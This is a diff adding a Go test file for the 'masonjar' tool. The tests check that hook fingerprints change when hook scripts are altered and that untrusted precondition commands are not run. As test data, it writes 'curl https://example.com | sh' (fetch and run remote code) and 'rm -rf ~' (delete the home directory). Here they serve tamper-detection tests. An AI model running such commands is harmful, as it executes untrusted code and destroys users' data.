@@ -0,0 +1,150 @@
+// Copyright © 2018 Steve Huff <steve.huff@asics.com>
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in
+// all copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN
+// THE SOFTWARE.
+
+package jar
+
+import (
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/spf13/afero"
+	"github.com/spf13/viper"
+)
+
+func TestHookFingerprint(t *testing.T) {
+	const metadata = "hooks:\n  post_open:\n    - command: [./setup.sh]\n"
+
+	fingerprint := func(j *MasonJar) string {
+		f, err := HookFingerprint(j, "https://example.com/jars.git")
+
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		return f
+	}
+
+	j := memJar(t, "service", metadata, "/setup.sh", "/README.md")
+	original := fingerprint(j)
+
+	if len(original) == 0 {
+		t.Fatal("expected a fingerprint for a jar with hooks")
+	}
+
+	if fingerprint(memJar(t, "service", metadata, "/setup.sh", "/README.md")) != original {
+		t.Error("expected the same jar to have the same fingerprint")
+	}
+
+	afero.WriteFile(j.fs, "/setup.sh", []byte("curl https://example.com | sh"), 0755)
+
+	if fingerprint(j) == original {
+		t.Error("expected changing a script run by a hook to change the fingerprint")
+	}
+
+	other, _ := HookFingerprint(memJar(t, "service", metadata, "/setup.sh", "/README.md"), "https://example.com/other.git")
+
+	if other == original {
+		t.Error("expected the repository URL to change the fingerprint")
+	}
+
+	if f := fingerprint(memJar(t, "service", "prefix: x", "/setup.sh")); len(f) > 0 {
+		t.Errorf("expected no fingerprint for a jar without hooks, got %v", f)
+	}
+
+	const precondition = "preconditions:\n  executables:\n    - name: terraform\n      min_version: \"0.11\"\n"
+	checked := fingerprint(memJar(t, "service", precondition))
+
+	if len(checked) == 0 {
+		t.Fatal("expected a fingerprint for a jar whose preconditions run a command")
+	}
+
+	if fingerprint(memJar(t, "service", precondition+"      version_args: [-c, 'rm -rf ~']\n")) == checked {
+		t.Error("expected changing the arguments of a precondition to change the fingerprint")
+	}
+}
+
+func TestUntrustedPreconditionsAreNotRun(t *testing.T) {
+	dir, err := ioutil.TempDir("", "masonjar-test")
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+	defer viper.Reset()
+
+	// the "version check" leaves a marker behind if it is ever run
+	marker := filepath.Join(dir, "ran")
+	tool := filepath.Join(dir, "masonjar-test-tool")
+
+	if err := ioutil.WriteFile(tool, []byte("#!/bin/sh\ntouch \"$1\"\necho 9.9\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.Setenv("PATH", os.Getenv("PATH"))
+	os.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
+
+	metadata := fmt.Sprintf("preconditions:\n  executables:\n    - name: masonjar-test-tool\n      min_version: \"1\"\n      version_args: [%v]\n", marker)
+	walk := func(string, os.FileInfo, error) error { return nil }
+
+	viper.Set("JarDestination", dir)
+	viper.Set("JarIdentifier", "out")
+	viper.Set("TrustFile", filepath.Join(dir, "trusted_hooks.json"))
+
+	err = OpenJars([]Jar{memJar(t, "tool", metadata)}, walk, nil, nil)
+
+	if err == nil || !strings.Contains(err.Error(), "have not been trusted") {
+		t.Errorf("expected opening an untrusted jar to fail, got %v", err)
+	}
+
+	declined := func(string) (bool, error) { return false, nil }
+	err = OpenJars([]Jar{memJar(t, "tool", metadata)}, walk, nil, declined)
+
+	if err == nil || !strings.Contains(err.Error(), "were not trusted") {
+		t.Errorf("expected opening a jar the user doesn't trust to fail, got %v", err)
+	}
+
+	viper.Set("NoHooks", true)
+	err = OpenJars([]Jar{memJar(t, "tool", metadata)}, walk, nil, nil)
+
+	if err != nil {
+		t.Errorf("expected --no-hooks to skip the version check, got %v", err)
+	}
+
+	if _, err := os.Stat(marker); err == nil {
+		t.Fatal("expected the untrusted precondition never to be run")
+	}
+
+	viper.Set("NoHooks", false)
+	viper.Set("TrustHooks", true)
+	err = OpenJars([]Jar{memJar(t, "tool", metadata)}, walk, nil, nil)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := os.Stat(marker); err != nil {
+		t.Error("expected the precondition to run once the jar is trusted")
+	}
+}